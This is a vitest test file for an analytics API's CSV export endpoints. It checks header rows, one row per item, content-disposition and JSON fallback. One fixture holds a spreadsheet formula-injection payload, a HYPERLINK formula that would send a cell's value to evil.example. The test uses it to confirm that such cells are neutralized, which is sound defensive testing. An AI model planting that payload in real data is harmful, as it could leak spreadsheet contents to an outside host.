/**
 * CSV answers of the list and series endpoints: asked for with `Accept: text/csv` or `format=csv`,
 * a header row and one row per item holding the JSON answer's values, and no cell a spreadsheet
 * would run as a formula.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestApp, type TestApp } from '../helpers/app.ts';
import { bookingMessage, eventCreated, type BookingFacts } from '../support/messages.ts';

const BASE = '/api/v1/analytics';
const AS_OF = '2025-06-14';
const DAY = 86_400_000;
const evening = Date.parse(`${AS_OF}T18:00:00Z`);
const FORMULA_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Free tickets")';

let service: TestApp;

/** RFC 4180: quoted cells may hold commas, doubled quotes and line breaks. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  if (cell !== '' || row.length > 0) rows.push([...row, cell]);
  return rows;
}

async function csv(url: string, accept?: string): Promise<string[][]> {
  const response = await service.app.inject({
    url,
    headers: { authorization: `Bearer ${service.token}`, ...(accept ? { accept } : {}) },
  });
  expect(response.statusCode).toBe(200);
  expect(response.headers['content-type']).toBe('text/csv; charset=utf-8');
  // Saved under the endpoint's name by a browser that opens the URL.
  const endpoint = url.split('?')[0]?.split('/').pop() ?? '';
  expect(response.headers['content-disposition']).toBe(`attachment; filename="${endpoint}.csv"`);
  return parseCsv(response.body);
}

async function json<T>(url: string): Promise<T> {
  const response = await service.app.inject({ url, headers: { authorization: `Bearer ${service.token}` } });
  expect(response.statusCode).toBe(200);
  return response.json<{ data: T }>().data;
}

/** The CSV text of a JSON value, before quoting: what each cell must hold. */
const text = (value: unknown): string =>
  value === null || value === undefined ? '' : typeof value === 'string' ? value : JSON.stringify(value);

function expectRowsOf(table: string[][], items: Record<string, unknown>[]): void {
  const [header, ...rows] = table;
  expect(header).toEqual(Object.keys(items[0] ?? {}));
  expect(rows).toHaveLength(items.length);
  rows.forEach((row, i) => {
    const item = items[i] ?? {};
    expect(row).toEqual((header ?? []).map((column) => text(item[column]).replace(/^=/, "'=")));
  });
}

beforeAll(async () => {
  service = await startTestApp();
  const events = [
    {
      id: 201,
      name: 'Jazz Night, Live',
      category: 'music',
      capacity: 100,
      price: 40,
      createdAt: evening - 30 * DAY,
      eventDate: evening + 9 * DAY,
    },
    {
      id: 202,
      name: FORMULA_NAME,
      category: 'comedy',
      capacity: 50,
      price: 20,
      createdAt: evening - 20 * DAY,
      eventDate: evening + 5 * DAY,
    },
  ];
  const messages = events.map(eventCreated);
  for (let i = 0; i < 8; i++) {
    const b: BookingFacts = {
      id: 7000 + i,
      eventId: i % 2 === 0 ? 201 : 202,
      userId: 40 + i,
      quantity: 1 + (i % 3),
      totalAmount: 20 * (1 + (i % 3)),
      createdAt: evening - (i + 1) * DAY,
    };
    messages.push(
      bookingMessage('BookingCreated', b),
      bookingMessage('BookingConfirmed', b, b.createdAt + 60_000),
    );
  }
  const response = await service.app.inject({
    method: 'POST',
    url: `${BASE}/ingest`,
    headers: { authorization: `Bearer ${service.token}` },
    payload: { messages },
  });
  expect(response.statusCode).toBe(200);
});

afterAll(async () => {
  await service?.close();
});

describe('CSV answers', () => {
  it('lists the events with Accept: text/csv, one row per event', async () => {
    const url = `${BASE}/events?sort=event_id&order=asc&as_of=${AS_OF}`;
    const table = await csv(url, 'text/csv');
    expectRowsOf(table, (await json<{ events: Record<string, unknown>[] }>(url)).events);
    expect(table).toHaveLength(3);
  });

  it('ranks the top events with format=csv, one row per event', async () => {
    const url = `${BASE}/top-events?sort_by=revenue&as_of=${AS_OF}`;
    const table = await csv(`${url}&format=csv`);
    expectRowsOf(table, (await json<{ events: Record<string, unknown>[] }>(url)).events);
    expect(table).toHaveLength(3);
  });

  it('gives the daily series one row per day', async () => {
    const url = `${BASE}/daily?days=7&as_of=${AS_OF}`;
    const table = await csv(`${url}&format=csv`);
    expectRowsOf(table, (await json<{ series: Record<string, unknown>[] }>(url)).series);
    expect(table).toHaveLength(1 + 7);
    expect(table[1]?.[0]).toBe('2025-06-08');
  });

  it('gives the booking trends one row per week bucket', async () => {
    const url = `${BASE}/booking-trends?from=2025-06-01&to=2025-06-14&granularity=week&as_of=${AS_OF}`;
    const table = await csv(url, 'text/csv');
    expectRowsOf(table, (await json<{ daily_breakdown: Record<string, unknown>[] }>(url)).daily_breakdown);
    // 1 June 2025 is a Sunday: its week, then two full weeks.
    expect(table.slice(1).map((row) => row[0])).toEqual(['2025-05-26', '2025-06-02', '2025-06-09']);
  });

  it('gives the revenue breakdown one row per day', async () => {
    const url = `${BASE}/revenue?days=10&as_of=${AS_OF}`;
    const table = await csv(url, 'text/csv, application/json;q=0.5');
    expectRowsOf(
      table,
      (await json<{ daily_revenue_breakdown: Record<string, unknown>[] }>(url)).daily_revenue_breakdown,
    );
    expect(table[0]).toEqual(['date', 'revenue', 'bookings']);
    expect(table).toHaveLength(1 + 10);
  });

  it('neutralizes a cell that a spreadsheet would run as a formula', async () => {
    const response = await service.app.inject({
      url: `${BASE}/events?sort=event_id&order=asc&format=csv&as_of=${AS_OF}`,
      headers: { authorization: `Bearer ${service.token}` },
    });
    const [header, ...rows] = parseCsv(response.body);
    const name = rows.map((row) => row[(header ?? []).indexOf('event_name')]);
    expect(name).toEqual(['Jazz Night, Live', `'${FORMULA_NAME}`]);
    expect(response.body).not.toMatch(/(^|,|\r\n)"?=/);
  });

  it('answers JSON when format=json overrides the Accept header, and for endpoints that are not lists', async () => {
    for (const url of [`${BASE}/events?format=json&as_of=${AS_OF}`, `${BASE}/system?as_of=${AS_OF}`]) {
      const response = await service.app.inject({
        url,
        headers: { authorization: `Bearer ${service.token}`, accept: 'text/csv' },
      });
      expect(response.statusCode, url).toBe(200);
      expect(response.headers['content-type'], url).toBe('application/json; charset=utf-8');
    }
  });

  it('answers the header row alone when the list is empty', async () => {
    const response = await service.app.inject({
      url: `${BASE}/events?category=no-such-category&format=csv&as_of=${AS_OF}`,
      headers: { authorization: `Bearer ${service.token}` },
    });
    expect(response.statusCode).toBe(200);
    const table = parseCsv(response.body);
    expect(table).toHaveLength(1);
    expect(table[0]).toContain('event_id');
    expect(table[0]).toContain('total_revenue');
  });
});
